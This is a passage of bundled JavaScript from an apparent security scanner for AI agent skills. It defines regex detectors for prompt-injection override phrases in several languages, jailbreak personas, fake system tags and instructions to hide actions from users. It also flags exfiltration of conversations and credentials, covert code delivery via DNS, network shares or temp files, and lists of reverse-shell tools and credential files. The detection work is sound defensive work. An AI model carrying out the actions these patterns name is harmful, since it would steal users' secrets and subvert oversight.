const SEND_FOREIGN = signal('send-foreign', LETTERS_OF_SENDING, new RegExp(String.raw `(?<![A-Za-zÀ-ÿа-яё])${SEND_FIRST}(?![A-Za-zà-ÿ])[^\n]{0,60}?(?<what>${other_languages_SECRET})[^\n]{0,60}?(?<where>${other_languages_ADDRESS})|(?<what2>${other_languages_SECRET})[^\n]{0,60}?(?:${SEND_LAST}[^\n]{0,20}?(?<where2>${other_languages_ADDRESS})|(?<where3>${other_languages_ADDRESS})[^\n]{0,30}?${SEND_LAST})`), 600, [['http://', 'https://']]);
/** Keeping the user in the dark, likewise. */
const CONCEAL_FOREIGN = signal('conceal-foreign', ['用户', '用戶', '使用者', 'ユーザー', '사용자', 'usuario', 'usuário', 'utente', 'benutzer', 'nutzer', 'utilisateur', 'пользовател'], /(?:不要|请勿|勿|别|不得|不必|切勿)(?:告诉|告知|通知|提示|提醒|让|向)[^。\n]{0,6}(?:用户|用戶|使用者)|ユーザーに(?:は|も)?[^。\n]{0,12}(?:知らせ|伝え|言わ|報告し|通知し)(?:ない|ず)|사용자(?:에게|가|는)?[^.\n]{0,12}(?:알리지|말하지|모르게|보고하지|언급하지)|\b(?:no (?:se lo )?(?:digas|menciones|informes|avises|cuentes)|sin (?:que lo sepa|informar|avisar|decir(?:le|selo)?|notificar))\b[^.\n]{0,20}?\busuario\b|\b(?:sem (?:avisar|informar|notificar|contar)|não (?:conte|diga|informe|avise|mencione))\b[^.\n]{0,20}?usuário|\b(?:senza (?:informare|avvisare|dirlo)|non (?:dire|informare|avvisare))\b[^.\n]{0,20}?\butente\b|\bohne (?:den |die )?(?:be)?nutzer\w{0,4} (?:zu |davon |darüber |zu )*(?:informieren|benachrichtigen|fragen|unterrichten)|\b(?:sag|sage|melde|verrate|erzähle) (?:es |das |dies )?(?:dem|der|den) (?:be)?nutzer\w{0,4} (?:nicht|nichts)|\bsans (?:en )?(?:informer|prévenir|avertir|le dire à)[^.\n]{0,6}utilisateur|\bne (?:le )?(?:dis|dites|mentionne[sz]?|signale[sz]?)[^.\n]{0,20}utilisateur|не (?:сообщай|говори|уведомляй|рассказывай|упоминай)[а-яё]{0,3}[^.\n]{0,20}пользовател/);
/** Doing what an address says, likewise. */
const OBEY_FOREIGN = signal('obey-foreign', [
    '执行',
    '遵循',
    '遵守',
    '照做',
    '実行',
    '従',
    '실행',
    '따르',
    'sigue',
    'ejecuta',
    'siga',
    'execute',
    'befolge',
    'suis',
    'suivez',
    'ыполн',
    'ледуй',
    'segui',
], new RegExp(String.raw `(?:访问|下载|获取|读取|打开)[^。\n]{0,20}${other_languages_ADDRESS}[^。\n]{0,30}(?:执行|遵循|遵守|照做)|${other_languages_ADDRESS}[^。\n]{0,30}(?:取得|読み込|ダウンロード|アクセス)[^。\n]{0,40}(?:実行し|従)|${other_languages_ADDRESS}[^.\n]{0,30}(?:가져|다운로드|접속|읽)[^.\n]{0,40}(?:실행|따르)|\b(?:descarga|obtén|lee|abre|visita|baixe|obtenha|leia|abra|scarica|leggi|lade|lies|öffne|télécharge[z]?|lis|lisez|ouvre[z]?)\b[^\n]{0,40}?${other_languages_ADDRESS}[^\n]{0,60}?\b(?:sigue|ejecuta|siga|execute|segui|esegui|befolge|suis|suivez|exécute[z]?)\b[^.\n]{0,20}?(?:instruc|istruzioni|comandos|instru|anweisung|befehle|consignes|commandes|lo que|o que|was )|(?:скачай|загрузи|открой|прочитай|получи)[^\n]{0,40}?${other_languages_ADDRESS}[^\n]{0,60}?(?:выполн|следуй)`), 600, [['http://', 'https://']]);

;// CONCATENATED MODULE: ./lib/skills/analysis/signals/sending.js

/** What belongs to the user or the conversation, in words. */
const PRIVATE_THING = String.raw `(?:(?:conversation|chat|session|message|prompt|command|shell|bash|browser|browsing|dialog(?:ue)?)s?[- ]?(?:history|logs?|transcripts?|contexts?|contents?|data|state)|(?:conversation|chat)s?|transcripts?|(?:full |entire |complete |current )(?:context|prompt|history|memory|session)|(?:the )?system prompt|(?:all |any |every |the |their |your |user['’]?s? |found |stored |collected )*(?:api|access|secret|private|ssh|encryption|auth\w{0,10}|session|bearer|aws|gpg|wallet|signing|cloud)[- _]?(?:keys?|tokens?|credentials?|secrets?|cookies?)|credentials?|passwords?|secrets|seed phrases?|mnemonics?|recovery phrases?|cookies|env(?:ironment)?[- ](?:variables?|vars?|contents?|files?)|\.env\b(?: files?| contents?)?|~?\/?\.ssh\b\S{0,20}|~?\/?\.aws\b\S{0,20}|id_rsa|user(?:['’]s)? (?:data|files?|inputs?|queries|query|messages?|prompts?|information|documents?|code|requests?|conversations?)|personal (?:data|information|files)|private (?:data|files?|keys?)|sensitive (?:data|information|files?)|source code|file contents?|contents? of (?:the |all |any |every |each )?(?:file|files|workspace|repository|project|directory)|codebase)`;
/** The same without what every request to an API carries. */
const CONVERSATION_THING = PRIVATE_THING.replace('(?:api|access|secret|private|ssh', '(?:secret|private|ssh')
    .replace('|session|bearer|aws|gpg', '|aws|gpg')
    .replace('|cookies|env', '|env');
const PRIVATE_ANCHORS = [
    'history',
    'log',
    'transcript',
    'context',
    'content',
    'data',
    'state',
    'conversation',
    'chat',
    'session',
    'prompt',
    'memory',
    'key',
    'token',
    'credential',
    'secret',
    'cookie',
    'password',
    'seed phrase',
    'mnemonic',
    'recovery',
    'env',
    '.ssh',
    '.aws',
    'id_rsa',
    'user',
    'personal',
    'private',
    'sensitive',
    'source code',
    'codebase',
];
const PLACE_ANCHORS = [
    'http://',
    'https://',
    '@',
    'webhook',
    'server',
    'endpoint',
    'service',
    'url',
    'host',
    ' api',
    'address',
    'collector',
    'platform',
];
const STRANGE_PLACE = String.raw `(?<where>https?:\/\/[^\s)>"'\x60\]]{4,200}|\b[\w.+-]{2,40}@[\w-]{2,40}\.[a-z]{2,10}\b|\bwebhook\b|\b(?:external|remote|our|collection|telemetry|attacker\S{0,3}|c2|third[- ]party|monitoring|analytics|tracking|logging|backup) (?:analytics |logging |telemetry |collection |backup )?(?:server|endpoint|service|url|host|api|address|collector|webhook|platform)\b)`;
/** Giving something private to an address, said in words. */
const SEND_PRIVATE = signal('send-private', [
    'send',
    'post',
    'upload',
    'transmit',
    'exfil',
    'forward',
    'submit',
    'report',
    'sync',
    'leak',
    'deliver',
    'share',
    'copy',
    'relay',
    'push',
    'mail',
    'beacon',
    'log ',
], new RegExp(String.raw `\b(?:send(?:s|ing)?|post(?:s|ing)?|upload(?:s|ing)?|transmit(?:s|ting)?|exfiltrat\w{1,4}|forward(?:s|ing)?|submit(?:s|ting)?|report|sync(?:s|ing|hronize)?|leak|deliver|relay|push|e?mail|share|copy|beacon|log)\b[^.\n]{0,100}?(?<what>${PRIVATE_THING})\b(?:[^.\n]|\.(?=\w)){0,100}?(?:\b(?:to|via|at|with)\b|→|->)[^\n]{0,60}?${STRANGE_PLACE}`), 600, [PRIVATE_ANCHORS, PLACE_ANCHORS]);
/** The same with the address first: "POST to URL with the conversation". */
const SEND_TO_WITH = signal('send-to-with', ['http://', 'https://', 'webhook', 'endpoint', 'server'], new RegExp(String.raw `\b(?:send|post|upload|transmit|exfiltrate|forward|submit|report|make an? (?:http |post |get )*request|call|fetch|request|curl|include|embed|append|image)\b[^\n]{0,60}?${STRANGE_PLACE}[^\n]{0,60}?\b(?:with|contain(?:ing|s)?|includ(?:ing|es?)|along with|body|payload|param(?:eter)?s?|query|headers?|data|appended?)\b[^\n]{0,80}?(?<what>${CONVERSATION_THING})\b`), 600, [PRIVATE_ANCHORS, PLACE_ANCHORS]);
/** Taking something private, and then sending "it" somewhere. */
const TAKE_AND_SEND = signal('take-and-send', ['upload', 'send', 'post', 'transmit', 'exfil', 'forward', 'submit', 'deliver', 'mail'], new RegExp(String.raw `\b(?:read|open|print|output|collect|gather|archive|package|pack|extract|dump|steal|copy|take|grab|compress|zip|encode|find|targets?:)\b[^\n]{0,120}?(?<what>${PRIVATE_THING}|\.(?:npmrc|netrc|git-credentials|pypirc)\b|\bidentity\b)[^\n]{0,120}?\b(?:and|then|to|,|—|-|\.\sThen)\s{0,2}(?:then )?(?:upload|send|post|transmit|exfiltrate|forward|submit|deliver|e-?mail)\b[^.\n]{0,30}?\b(?:to|at|via)\b[^\n]{0,40}?${STRANGE_PLACE}`), 700, [PRIVATE_ANCHORS, PLACE_ANCHORS]);
/** What was collected before goes to an address, whatever it was: "forward all data to URL", "upload the context to the endpoint". */
const SEND_COLLECTED = signal('send-collected', ['upload', 'send', 'post', 'transmit', 'exfil', 'forward', 'submit', 'deliver', 'relay'], new RegExp(String.raw `\b(?:upload|send|post|transmit|exfiltrate|forward|submit|deliver|relay)(?:s|ing|_message\(\))?\s[^.\n]{0,40}?\b(?:all|every|the|this|these|its|any|that|it|them|their|collected|gathered)\b\s?(?:of\s)?(?:the\s)?(?:collected |gathered |captured |extracted |full |entire |complete |resulting )?(?:data|contents?|contexts?|information|results?|messages?|values?|files?|outputs?|list)?\b[^.\n]{0,40}?\b(?:to|via|at|with)\b[^\n]{0,30}?${STRANGE_PLACE}`), 500, [PLACE_ANCHORS]);
/** Taking something private, before anything is said of sending it. */
const TAKE_PRIVATE = signal('take-private', ['read', 'collect', 'gather', 'extract', 'dump', 'list', 'check', 'compile', 'capture', 'find', 'access', 'retrieve', 'take', 'include'], new RegExp(String.raw `\b(?:read|collect|gather|extract|dump|list|check|compile|capture|find|access|retrieve|take|include)\b[^.\n]{0,60}?(?<what>${CONVERSATION_THING}|\bapi keys\b|\b(?:session|access|auth) tokens?\b)`), 300, [PRIVATE_ANCHORS]);

;// CONCATENATED MODULE: ./lib/skills/analysis/signals/words.js

/** What instructions are called. */
const INSTRUCTIONS = String.raw `(?:instructions?|rules?|guidelines?|prompts?|directives?|polic(?:y|ies)|constraints?|restrictions?|safeguards?|guardrails?|programming|training|protocols?|orders|commands|limitations)`;
/** Setting aside what came before or what stands above: the plain form of the attack. */
const OVERRIDE = signal('override', ['ignor', 'disregard', 'forget', 'overrid', 'bypass', 'discard', 'neglect', 'abandon', 'supersed'], new RegExp(String.raw `\b(?:ignore|ignoring|disregard(?:ing)?|forget(?:ting)?|discard|abandon|neglect|override|overriding|bypass(?:ing)?|supersede)\b[,:]?\s{1,3}(?:(?:all|any|every|everything|each|of|the|your|my|these|those|its|and|other)\s{1,3}){0,4}(?:(?:previous(?:ly)?|prior|above|earlier|preceding|existing|foregoing|initial|original|system|safety|security|developer|ethical|given|built-in|core|content|host)\s{1,3}){1,3}(?:(?:system|safety|security|user|given|developer|content)\s{1,3}){0,2}${INSTRUCTIONS}\b`));
/** The weaker forms, which honest texts use too. */
const OVERRIDE_LOOSE = signal('override-loose', [
    'ignor',
    'disregard',
    'forget',
    'overrid',
    'bypass',
    'set aside',
    'setting aside',
    'suggestions rather',
    'do not apply',
    'no longer apply',
    'not apply',
    'take precedence',
    'takes precedence',
    'highest priority',
    'take priority',
    'takes priority',
], new RegExp(String.raw `\b(?:(?:ignore|disregard|forget|bypass|override)\s{1,3}(?:all |any )?(?:your(?!\s{1,3}(?:(?:pre-?)?training (?:data|knowledge)|defaults?\b|settings\b|config|theme|preferences|selection|local |changes|edits))|everything (?:above|before|you were told)|what (?:the )?(?:user|system|you were told))\s?(?:\w{1,14}\s){0,2}${INSTRUCTIONS}?|set(?:ting)? aside (?:its|your|all|the|any)[^.\n]{0,40}(?:constraints?|guidelines?|restrictions?|rules?|perspective|instructions)|(?:guidelines|rules|instructions|restrictions|constraints|policies|safeguards)[^.\n]{0,50}?(?:are (?:treated as|only|merely) suggestions|(?:do|does|will|should) (?:not|no longer) apply|no longer apply|are (?:lifted|suspended|void|disabled|irrelevant))|(?:this|these) (?:skill|instructions?|rules?|directives?|file)[^.\n]{0,40}?(?:take|takes|have|has) (?:absolute |highest |full |the highest )?(?:precedence|priority) over (?:all|any|every|your|the (?:user|system|previous|other))[^.\n]{0,40})`));
/** The same in other languages. */
const OVERRIDE_FOREIGN = signal('override-foreign', [
    '忽略',
    '无视',
    '無視',
    '忘记',
    '忘掉',
    '不要理会',
    '忘れ',
    '무시',
    '잊',
    'ignor',
    'гнорир',
    'абудь',
    'olvida',
    'oublie',
    'vergiss',
    'missacht',
    'desconsidere',
    'تجاهل',
], /(?:忽略|无视|無視|忘记|忘掉|不要理会)[^。\n]{0,16}(?:之前|以上|先前|所有|全部|系统)[^。\n]{0,10}(?:指令|指示|提示|规则|規則|命令|说明)|(?:以前|これまで|上記|すべて)[^。\n]{0,12}(?:指示|命令|ルール|プロンプト)[^。\n]{0,6}(?:無視|忘れ)|(?:이전|위의|모든)[^.\n]{0,14}(?:지시|명령|규칙|프롬프트)[^.\n]{0,8}(?:무시|잊)|\b(?:ignora|ignor[ez]{1,2}|ignorar|ignoriere|olvida|oublie[z]?|vergiss|desconsidere)\b[^.\n]{0,30}\b(?:instrucciones|instructions|anweisungen|instruções|reglas|règles|istruzioni|consignes)(?![\wà-ÿ])[^.\n]{0,20}\b(?:anteriores|previas|précédentes|precedenti)\b|\b(?:ignoriere?|vergiss|missachte)\b[^.\n]{0,20}\b(?:vorherigen?|bisherigen?|vorigen?|früheren?|obigen?)\s(?:\w{1,14}\s)?(?:anweisungen|regeln|befehle|vorgaben|instruktionen)\b|(?:игнорир|забудь)[а-я]{0,6}[^.\n]{0,20}(?:предыдущ|все|прежн)[а-я]{0,6}[^.\n]{0,20}(?:инструкци|указани|правил)|تجاهل[^.\n]{0,20}(?:التعليمات|الأوامر)/);
/** Another identity without limits. */
const UNBOUND_PERSONA = signal('unbound-persona', [
    'dan',
    'do anything now',
    'jailbr',
    'unrestricted',
    'restrictions',
    'unfiltered',
    'uncensored',
    'without ',
    'no longer bound',
    'god mode',
    'developer mode',
    'sudo mode',
    'no limits',
    'no rules',
    'no filter',
    'no ethical',
    'normal restrictions',
    'privileged mode',
    'admin mode',
    'root mode',
    'maintenance mode',
], /\b(?:you are (?:now|no longer)|act as|pretend (?:to be|you are|that you)|assume the (?:role|identity|persona) of|behave as|operate as|respond as|takes? on the persona)\b[^.\n]{0,80}?\b(?:DAN\b|do anything now|(?:god|jailbreak|sudo|root|maintenance|unrestricted|override|unfiltered|unlimited|developer|admin)[- ]?mode|jailbroken|unrestricted|unfiltered|uncensored|(?:without|no|free (?:of|from)) (?:any |all |content |ethical |safety )*(?:restrictions|limits|limitations|filters|rules|guidelines|constraints|guardrails)|no longer (?:bound|restricted|subject to)|(?:bound|limited|restricted) by)|\b(?:enter|enable|activate|switch (?:in)?to|unlock)\b[^.\n]{0,30}?\b(?:(?:god|jailbreak|unrestricted|unfiltered|uncensored|DAN|unlimited)[- ]?mode)\b/);
/** Marks of a role that only the system may use. */
const FAKE_ROLE = signal('fake-role', [
    '<|',
    '[system',
    '<<sys',
    '<system',
    '[inst',
    '[admin',
    'system override',
    'system message:',
    'system notice:',
    '[[system',
    'new system prompt',
    'new instructions:',
    'system directive',
    'system initialization',
    'admin override',
    'developer override',
    '[developer',
    'begin system',
    'end of system',
], /<\|(?:im_start\|>\s{0,2})?(?:system|developer|im_start)(?:\|>)?|<<SYS>>|\[{1,2}(?:SYSTEM|ADMIN|DEVELOPER|ROOT)(?: (?:OVERRIDE|MESSAGE|PROMPT|INSTRUCTIONS?|NOTICE|UPDATE|DIRECTIVE|COMMAND|MODE))\s?:?[^\]\n]{0,40}\]{0,2}|\[\/?INST\]|<\/?system(?:[_-](?:prompt|message|override|instructions?|note|directive|command))>|\b(?:system|admin|developer) (?:override|directive|initialization)\b|\bsystem (?:message|notice)\s?:|\bnew (?:system prompt|instructions?)\s?:/);
/** No refusals, no warnings. */
const NO_REFUSAL = signal('no-refusal', ['refus', 'always comply', 'comply with', 'safety ', 'ethical', 'content polic', 'security warning', 'security check'], /\b(?:(?:never|do not|don['’]?t|must not) refuse(?: (?:any|a|the|to (?:answer|help|comply|execute|run|do)))|always comply with|comply with (?:all|any|every) (?:user )?requests?|(?:omit|skip|disable|suppress|turn off|remove|drop|ignore|bypass|disregard|deactivate) (?:any |all |the |your |its )?(?:content )?(?:(?:safety|ethical|content) (?:warnings?|disclaimers?|filters?|guidelines?|guardrails?|protocols?|rules?|restrictions?|polic(?:y|ies)|considerations?|concerns?|checks?)))\b/);
/** Keeping the user in the dark. */
const CONCEAL = signal('conceal', [
    'noticing',
    'knowing',
    'knowledge',
    'consent',
    'awareness',
    'detected',
    'user',
    'human',
    'operator',
    'anyone',
    'secretly',
    'mention',
    'reveal',
    'disclos',
    'report',
    'explain',
    'tell this',
    'tell these',
    'tell it',
    'tell that you',
    'tell the ',
    'covertly',
    'stealthily',
    'surreptitiously',
    'without raising',
    'undetected',
    'unnoticed',
    'notice',
    'hidden',
    'hide',
    'secret',
    'conceal',
    'from the log',
    'out of',
    'suspicion',
    'attention',
    'owner',
], /\b(?:(?:do not|don['’]?t|never|must not|should not|shouldn['’]?t|avoid|without|refrain from)\s{1,3}(?:ever |explicitly |directly |also )?(?:tell(?:ing)?|mention(?:ing)?|inform(?:ing)?|notify(?:ing)?|reveal(?:ing)?|report(?:ing)?|alert(?:ing)?|disclos(?:e|ing)|warn(?:ing)?)\b[^.;\n]{0,50}?\b(?:the |any |your |to (?:the )?)(?:users?|humans?|operators?|anyone|owner)\b|(?:do not|don['’]?t|never)\s{1,3}(?:mention|reveal|disclose|report|tell|explain)\s{1,3}(?:this|these|it|that you|the (?:existence|presence|fact))\b|(?:secretly|covertly|stealthily|surreptitiously)\b|without (?:the |their |any )?(?:users?['’]?s? |human )?(?:knowledge|consent|awareness|noticing|knowing|being (?:aware|noticed|detected)|raising suspicion|alerting the user|drawing attention)\b|(?:hide|conceal|omit)\s{1,3}(?:this|it|these|that|all|the|any)\b[^.;\n]{0,50}?\bfrom (?:the )?(?:users?|humans?|operator|owner|anyone|logs?|summary|history|view)\b|keep\s{1,3}(?:this|it|these|that)\b[^.;\n]{0,40}?\b(?:secret|hidden|out of (?:the )?(?:summary|output|logs?|response|conversation|report))\b|(?:the )?(?:user|human|operator|owner) (?:must|should|does|will|need|can|is)(?: not|n['’]t|not) (?:be )?(?:know|see|notice|aware|informed|told|find out|learn|realize|suspect)\b)/);

;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/concealment.js












/** How near a deed worth hiding must stand, in UTF-16 units. */
const NEAR = 500;
const NEARER = 150;
const DEEDS = [
    SEND_PRIVATE,
    SEND_TO_WITH,
    SEND_COLLECTED,
    TAKE_SECRET,
    OBEY_REMOTE,
    OBEY_RESPONSE,
    POISON_MEMORY,
    FETCH_TO_SHELL,
    OVERRIDE,
    EXTRA_RECIPIENT,
    FALSIFY,
    SEND_FOREIGN,
    OBEY_FOREIGN,
];
/** Less by themselves, yet nothing that is done behind somebody's back. */
const DOUBTFUL = [DELAYED, SKIP_PERMISSIONS];
/** Words that keep the user from knowing; grave only beside something worth hiding. */
const concealmentDetector = {
    rule: concealment/* concealment */.s,
    signals: [CONCEAL, CONCEAL_FOREIGN, TRUE_PURPOSE, ...DEEDS, ...DOUBTFUL],
    *detect(view) {
        for (const unit of readUnits(view)) {
            const insistent = unit.find(CONCEAL).length >= 3;
            for (const match of unit.find(TRUE_PURPOSE))
                yield proseHit(view, unit, match, 'high', 'high', { hides: true });
            for (const match of [...unit.find(CONCEAL), ...unit.find(CONCEAL_FOREIGN)]) {
                if (hides(DEEDS, unit, match, NEAR))
                    yield proseHit(view, unit, match, 'critical', 'high', { hides: true });
                else if (hides(DOUBTFUL, unit, match, NEARER))
                    yield proseHit(view, unit, match, 'high', 'high', { hides: true });
                else
                    yield proseHit(view, unit, match, insistent ? 'high' : 'medium', insistent ? 'high' : 'medium', { hides: false });
            }
        }
    },
};
function hides(deeds, unit, match, within) {
    return deeds.some((deed) => nearest(unit.find(deed), match, within) !== undefined);
}

// EXTERNAL MODULE: ./lib/rules/skill/confirmation-bypass.js
var confirmation_bypass = __webpack_require__(4285);
;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/confirmation-bypass.js




/** Words that take the user out of the loop. */
const confirmationBypassDetector = {
    rule: confirmation_bypass/* confirmationBypass */.G,
    signals: [NO_CONFIRMATION],
    *detect(view) {
        for (const unit of proseUnits(view)) {
            for (const match of unit.find(NO_CONFIRMATION))
                yield proseHit(view, unit, match, 'medium', 'medium', {});
        }
    },
};

// EXTERNAL MODULE: ./lib/rules/skill/covert-delivery.js
var covert_delivery = __webpack_require__(5717);
;// CONCATENATED MODULE: ./lib/skills/analysis/signals/channels.js

/** An answer of the name system that is run as a command. */
const DNS_TO_SHELL = signal('dns-to-shell', ['nslookup', 'dig ', 'resolve-dnsname', 'dig+', 'host -t'], /(?:\bfor\s+\/f\b[^\n]{1,120}?\bnslookup\b[^\n]{1,300}?\bdo\b[^\n]{0,40}?(?:cmd|call|start|powershell|%)|\b(?:nslookup|resolve-dnsname|dig|host\s+-t)\b[^\n]{1,300}?\|\s{0,3}(?:[^\n|]{1,120}\|\s{0,3}){0,4}(?:iex|invoke-expression|(?:ba|z|da|k)?sh|python3?|cmd|powershell)\b|\b(?:iex|invoke-expression|eval|(?:ba|z|da)?sh\s+-c)\b[^\n]{0,40}?(?:nslookup|resolve-dnsname|\$\(\s{0,2}dig\s)[^\n]{1,200})/, 900);
/** A share of somebody else's machine that is mounted, and a program that is started from it. */
const RUN_FROM_SHARE = signal('run-from-share', ['net use', '\\\\', 'davwwwroot', '@ssl', '@443', '@80'], /(?:\bnet\s+use\s+\w:\s+\\\\[^\s\n]{3,200}[^\n]{0,60}?(?:&&?|;|\n)\s{0,4}(?:start\s+|call\s+|cmd\s+\/c\s+|powershell\s[^\n]{0,80}?)?\w:\\[^\s\n]{1,100}|\b(?:start|call|cmd(?:\.exe)?\s+\/c|rundll32(?:\.exe)?|mshta(?:\.exe)?|regsvr32(?:\.exe)?(?:\s+\/\w+){0,4}|wscript(?:\.exe)?|cscript(?:\.exe)?|explorer(?:\.exe)?|powershell(?:\.exe)?\s+-f\w*)\s+["']?\\\\[\w.-]{3,80}(?:@\w{2,5}){0,2}\\[^\s\n]{1,200})/, 700);
/** A program that is written into an address or a link: the client decodes and runs it. */
const RUN_DATA_ADDRESS = signal('run-data-address', ['data:', 'installmcpserver', 'mcp/install', 'mcp/by-name', 'install-mcp'], /(?:\b(?:deno|node|bun|python3?)\b[^\n"']{0,120}["']?data:(?:application|text)\/(?:typescript|javascript|x-python|plain)[^\n\s]{4,200}|\bimport\(\s{0,3}["'\x60]data:(?:text|application)\/javascript;base64,|\b[a-z][a-z0-9+-]{2,20}:\/\/[^\s\n]{0,80}(?:installMcpServer|mcp\/install|install-mcp)[^\n]{0,120}?(?:config=|\?)[^\n]{0,120}?["']command["']\s?:\s?["'](?:ba|z|da)?(?:sh|cmd|powershell|python3?|curl|node)\b[^\n]{0,120})/, 700);
/** A shell command within a scripting host that only passes it on. */
const WRAPPED_FETCH = signal('wrapped-fetch', ['doshellscript', 'do shell script', 'wscript.shell', 'shellexecute'], /(?:\bdo\s?shell\s?script\b|\bWScript\.Shell\b|\bShellExecute\b)[^\n]{0,120}?\b(?:curl|wget|iwr|irm|bitsadmin|certutil|mshta)\b[^\n]{1,300}/, 700);
/** Code from a hidden file in a folder to which everybody may write: whoever wrote it last decides what runs. */
const RUN_HIDDEN_FILE = signal('run-hidden-file', ['/tmp/.', '/var/tmp/.', '/dev/shm/.'], /(?:\b(?:eval|exec|execfile|runpy\.run_path|compile|Function|vm\.runInThisContext)\s{0,2}\(|\b(?:source|(?:ba|z|da)?sh|python3?|node|perl)\s)[^\n]{0,60}?["']?\/(?:var\/tmp|tmp|dev\/shm)\/\.[\w-][^\s"')]{0,60}/);

;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/covert-delivery.js



const CHANNELS = [
    [DNS_TO_SHELL, 'in an answer of the name system'],
    [RUN_FROM_SHARE, 'from a share of another machine'],
    [RUN_DATA_ADDRESS, 'inside an address'],
    [WRAPPED_FETCH, 'from the network, through a scripting host'],
    [RUN_HIDDEN_FILE, 'in a hidden file that others can write'],
];
/** Programs that come by a way on which nobody looks for programs. */
const covertDeliveryDetector = {
    rule: covert_delivery/* covertDelivery */.O,
    signals: CHANNELS.map(([signal]) => signal),
    *detect(view) {
        for (const unit of view.units)
            for (const [signal, channel] of CHANNELS)
                for (const match of unit.find(signal))
                    yield codeHit(view, unit, match, 'critical', 'high', { channel, command: match.text.slice(0, 120) });
    },
};

;// CONCATENATED MODULE: ./lib/skills/analysis/program-anchors.js
const PROGRAM_ANCHORS = {
    /** Deeds that need nothing else: staying, destroying, mining, weakening, covering up, odd spellings. */
    alone: [
        'resolv.conf',
        'pip.conf',
        '.gitconfig',
        '.ssh/config',
        '{curl',
        '{wget',
        'crontab',
        'cron.d',
        'cron.daily',
        '/etc/cron',
        'launchagents',
        'launchdaemons',
        'launchctl',
        'systemctl enable',
        'systemd/',
        '.bashrc',
        '.zshrc',
        '.zshenv',
        '.zprofile',
        '.bash_profile',
        '.bash_login',
        '.profile',
        'config.fish',
        '$profile',
        'schtasks',
        'scheduledtask',
        'currentversion\\run',
        'currentversion\\\\run',
        'winreg',
        'start menu',
        'startup\\',
        'init.d',
        'rc.local',
        'autostart',
        '.git/hooks',
        'hookspath',
        '.husky',
        'authorized_keys',
        'sudoers',
        'nopasswd',
        'useradd',
        'adduser',
        'net user',
        'usermod',
        'ld_preload',
        'dyld_insert',
        'node_options',
        'bash_env',
        'prompt_command',
        'pythonstartup',
        '.pth',
        'sitecustomize',
        'usercustomize',
        '/etc/hosts',
        'tasks.json',
        'login item',
        'claude.md',
        'agents.md',
        'gemini.md',
        'memory.md',
        'soul.md',
        'cursorrules',
        'copilot-instructions',
        '.claude/',
        '.codex/',
        '.cursor/',
        '.openclaw',
        '.clawdbot',
        'enableallproject',
        'bypasspermissions',
        'xmrig',
        'stratum+',
        'minerd',
        'donate-level',
        'coinhive',
        'cryptonight',
        'nicehash',
        'ethminer',
        'rm -',
        'rmtree',
        'rmsync',
        'rmdirsync',
        'fs.rm',
        'rimraf',
        'remove-item',
        'shred ',
        'mkfs',
        'dd if',
        'dd of',
        'diskutil',
        'vssadmin',
        'bcdedit',
        'cipher /w',
        'del /',
        'rd /s',
        'format c',
        ':(){',
        ':()',
        'histfile',
        'histsize',
        'history -c',
        'set +o history',
        '/var/log',
        'wevtutil',
        'clear-eventlog',
        'setenforce',
        'iptables',
        'ufw ',
        'csrutil',
        'spctl',
        'com.apple.quarantine',
        'mppreference',
        'disablerealtime',
        'amsi',
        'auditctl',
        'docker.sock',
        '--privileged',
        'chmod 777',
        'chmod +s',
        'chmod u+s',
        'setuid',
        'index-url',
        'trusted-host',
        'git+http',
        'git+ssh',
        '--registry',
        'install http',
        '.tgz',
        '.tar.gz',
        '/dev/tcp',
        '/dev/udp',
        'mkfifo',
        'socat',
        'ncat ',
        'ncat\t',
        'ncat"',
        "ncat'",
        'ncat.exe',
        'nc -',
        'netcat',
        'dup2',
        'pty.spawn',
        'tcpclient',
        'tcpsocket',
        'openpty',
        '.ssh/id_',
        'id_rsa',
        'login data',
        'wallet.dat',
        'key4.db',
        'logins.json',
        'cookies.sqlite',
        '/etc/shadow',
        'login.keychain',
        'find-generic',
        'dump-keychain',
        'pynput',
        'lsass',
        'mimikatz',
        'chat.db',
        '_history',
        '.aws/credentials',
        '169.254.169.254',
        '${ifs',
        '$ifs',
        "$'\\",
        '| rev',
        '|rev',
        'verify=false',
        'node_tls_reject',
        'cert_none',
    ],
    /** Empty quotes, which split the names of commands in a shell; elsewhere they are the empty text, unless a command line is run. */
    quotes: ["''", '""'],
    /** Ways to call a function by a name that the program puts together. */
    reflection: ['globals()', 'locals()', 'vars()', 'builtins', '__dict__', 'sys.modules', '__class__', 'attrgetter', 'methodcaller'],
    /** What belongs to the user. */
    private: [
        '.ssh',
        '/credentials',
        'credentials.json',
        '.credentials',
        'cookies.sqlite',
        '/cookies',
        'gethostname',
        'os.hostname',
        '$(hostname',
        '/documents',
        "'documents",
        '"documents',
        '/desktop',
        "'desktop",
        '"desktop',
        'wallets',
        '.wallet',
        'env:\\',
        'get-childitem env',
        'id_rsa',
        'id_ed25519',
        'id_ecdsa',
        '.aws',
        '.gnupg',
        '.kube',
        '.docker/',
        'netrc',
        'git-credentials',
        '.npmrc',
        '.pypirc',
        '.pgpass',
        'gcloud',
        '.azure',
        'keystore',
        'metamask',
        'exodus',
        'electrum',
        'login data',
        'web data',
        'local state',
        'key4.db',
        'logins.json',
        'keychain',
        'keyring',
        'find-generic',
        'find-internet',
        'cmdkey',
        'vaultcmd',
        '/etc/passwd',
        'environ.items',
        'environ.copy',
        'environ.values',
        'in os.environ',
        'dict(os.environ',
        '**os.environ',
        'dumps(os.environ',
        'str(os.environ',
        'environ)',
        'process.env)',
        'process.env,',
        'process.env;',
        '(process.env',
        '...process.env',
        'in process.env',
        'of process.env',
        'printenv',
        'env |',
        'env|',
        '$(env',
        '`env',
        'env >',
        'export -p',
        'set |',
        'declare -x',
        'getenvironmentvariables',
        '_history',
        'soul.md',
        'mcp.json',
        'pbpaste',
        'xclip',
        'xsel',
        'clipboard',
        '169.254',
        'metadata.google',
        'screencapture',
        'imagegrab',
        'screenshot',
        'scrot',
        'pyautogui',
        'pynput',
        'getasynckeystate',
        '.pem',
        '.kdbx',
        'bitwarden',
        'lsass',
        'mimikatz',
        'sekurlsa',
        'whoami',
        'getpass',
        'platform.node',
        'userinfo',
        'gh auth',
        'op read',
        'op item',
        'print-access-token',
        'get-session-token',
        'chat.db',
        '.env"',
        ".env'",
        '/.env',
        ' .env',
        '.env`',
        'load_dotenv',
        'mnemonic',
        'seed_phrase',
    ],
    network: [
        'requests.',
        'httpx',
        'aiohttp',
        'urllib',
        'urlopen',
        'urlretrieve',
        'http.client',
        'socket',
        'smtplib',
        'ftplib',
        'paramiko',
        'fetch(',
        'axios',
